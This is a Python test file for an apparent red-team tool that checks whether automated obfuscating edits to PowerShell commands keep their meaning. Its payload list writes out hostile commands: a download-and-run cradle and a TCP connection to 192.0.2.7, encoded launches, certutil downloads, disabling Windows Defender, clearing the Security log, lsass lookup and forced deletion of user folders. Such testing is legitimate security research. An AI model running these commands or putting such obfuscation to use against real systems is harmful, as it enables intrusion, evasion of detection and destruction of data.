"""The oracle of PowerShell compares what is said, and finds the edits to change nothing."""

from __future__ import annotations

import base64
import gzip
import json
import re
from collections.abc import Sequence
from pathlib import Path
from random import Random
from typing import Any

import pytest

from overproof.redteam.base import Proof
from overproof.redteam.mutate.powershell import MUTATORS
from overproof.redteam.oracle import powershell
from overproof.redteam.oracle.powershell import judge

pytest.importorskip("tree_sitter_powershell", reason="needs the extra `attack`")


def encoded(text: str) -> str:
    """Encode a command as powershell.exe takes it."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"
PAYLOADS = [
    CRADLE,
    "$u = 'http://192.0.2.7'\niex(new-object net.webclient).downloadstring('http://192.0.2.7/a.ps1')\nInvoke-Check -x",
    f"powershell.exe -nop -w hidden -enc {encoded(CRADLE)}",
    f"powershell -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {encoded('Get-Process; whoami')}",
    "powershell.exe -ep bypass -File C:\\x\\a.ps1",
    'pwsh -NoLogo -Command "Get-Process"',
    "PS C:\\Users\\mira> Get-LocalUser | Select-Object Name",
    "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; IEX (IWR 'http://192.0.2.7/x')",
    "Invoke-WebRequest 'http://192.0.2.7/a.exe' -OutFile 'C:\\x\\a.exe'\nStart-Process 'C:\\x\\a.exe' -Wait",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Get-ADUser -Filter * | Where-Object {$_.Enabled -eq $true} | Export-Csv 'C:\\x\\users.csv'",
    "$p = Get-Process lsass; $p.Id",
    "foreach ($f in Get-ChildItem C:\\Users) { Remove-Item $f.FullName -Force }",
    "New-ItemProperty -Path 'HKLM:\\Software\\A' -Name 'Run' -Value '1' -PropertyType 'String' -Force",
    "reg.exe add HKLM\\Software\\A /v Run /d x",
    "& 'C:\\x\\tool.exe' -a -B",
    "Stop-Service -Name 'WinDefend' -Force -ErrorAction SilentlyContinue | Out-Null",
    "if (Test-Path 'C:\\x') { copy 'C:\\x\\a' 'C:\\x\\b' }",
    "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7', 4444)",
    "Add-MpPreference -ExclusionPath 'C:\\Temp'",
    "gwmi Win32_ComputerSystem | select Name",
    "certutil.exe -urlcache -f http://192.0.2.7/b b.exe",
    "schtasks.exe /create /tn task /tr C:\\x\\a.exe /sc onlogon",
    "Clear-EventLog -LogName 'Security'",
    "Import-Module .\\PowerView.ps1; Get-NetUser -Username 'admin'",
    "$d = [System.Convert]::FromBase64String('aGVsbG8='); [System.Text.Encoding]::UTF8.GetString($d)",
    "Invoke-Command -ScriptBlock { whoami.exe } -ComputerName 'srv'",
    "Compress-Archive -Path 'C:\\docs' -DestinationPath 'C:\\x\\d.zip'",
    "sleep 5; ii 'C:\\x\\a.hta'",
    "Get-Content 'C:\\x\\a.txt' | % { $_.Trim() } | Set-Content 'C:\\x\\b.txt'",
    "Unblock-File -Path 'C:\\x\\a.ps1'",
]


def share(pairs: Sequence[tuple[str, str]], proofs: Sequence[Proof]) -> float:
    """Return which part of the pairs is proved; none may be changed."""
    assert [pair for pair, proof in zip(pairs, proofs, strict=True) if proof.meaning == "changed"] == []
    return sum(proof.meaning == "proved" for proof in proofs) / len(proofs)


def test_chains_of_edits_are_proved(chains: Any) -> None:
    pairs = [pair for seed in range(20) for pair in chains(PAYLOADS, MUTATORS, 6, Random(seed))]
    assert len(pairs) == 20 * len(PAYLOADS)
    assert share(pairs, judge(pairs)) >= 0.97


@pytest.mark.parametrize("name", sorted(MUTATORS))
def test_each_edit_is_proved_alone(name: str) -> None:
    made = [(text, MUTATORS[name](text, Random(seed))) for text in PAYLOADS for seed in range(4)]
    pairs = [(text, edited) for text, edited in made if edited is not None and edited != text]
    assert pairs
    assert share(pairs, judge(pairs)) >= 0.97


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("iex $x", "ixe $x"),
        ("iex $x; gc a", "iex $x # gc a"),
        ("iex $x; gc a", "iex $x"),
        ("Remove-Item a -Force", "Rename-Item a -Force"),
        (f"powershell -enc {encoded('iex $x')}", f"powershell -enc {encoded('gc $x')}"),
        ("& ('ie'+'x') $x", "& ('i'+'x') $x"),
        (CRADLE, "Write-Output 'garden'"),
    ],
)
def test_other_commands_are_seen(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "changed"


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("gc a", "gc b"),
        ("iex $x", "# iex $x"),
        ("sleep 5", "sleep 6"),
        ("nmap.exe -sS a", "nmap.exe -ss a"),
        ("iex 'http://a/b'", "iex 'http://a/B'"),
        ("$a = 'x'; iex $a", "$a = 'y'; iex $a"),
        ("$a = 'x'; iex \"$a b\"", "$a = 'y'; iex \"$a b\""),
        (f"powershell -enc {encoded('$a = 1; iex $a')}", f"powershell -enc {encoded('$a = 2; iex $a')}"),
        ("powershell -w hidden -c id", "powershell -w normal -c id"),
        ("powershell -no -c id", "powershell -nop -c id"),
        ("if ($a) { iex b }", "if ($b) { iex b }"),
        ("iex b", "$x = iex b"),
        ("a | iex", "a; iex"),
        ("'just words'", "'just  words'"),
        ("hello", "hell`o"),
        ("iex (", "iex  ("),
        ("iex b", "iex ("),
        ('gc "$x`n"', 'gc "$x"'),
    ],
)
def test_what_is_not_proved(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning in ("unproved", "changed")


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("powershell.exe -NoProfile -WindowStyle Hidden -c id", "POWERSHELL /w hidden -nop -Command id"),
        ("Invoke-Expression $X", "ie`X ${x} <# garden #> # shoes"),
        ("gci C:\\", "& (\"Get-\" + 'ChildItem') C:\\"),
        ("iex a; gc b", "iex a\ngc b"),
    ],
)
def test_what_is_proved(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "proved"


def test_without_the_parser_it_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(powershell, "parser", lambda: None)
    proof = judge([("iex a", "iex a")])[0]
    assert proof.meaning == "unproved"
    assert "overproof[attack]" in proof.how


def test_real_commands_keep_their_meaning(chains: Any, shared_data: Path) -> None:
    with gzip.open(shared_data / "shell" / "atomic_red_team.jsonl.gz", "rt", encoding="utf-8") as file:
        rows = [row for row in map(json.loads, file) if row["executor"] == "powershell"]
    texts = [re.sub(r"#\{(\w+)\}", r"\1", row["command"]).strip() for row in rows]
    pairs = chains(Random(0).sample(texts, 200), MUTATORS, 4, Random(3))
    assert share(pairs, judge(pairs)) >= 0.8
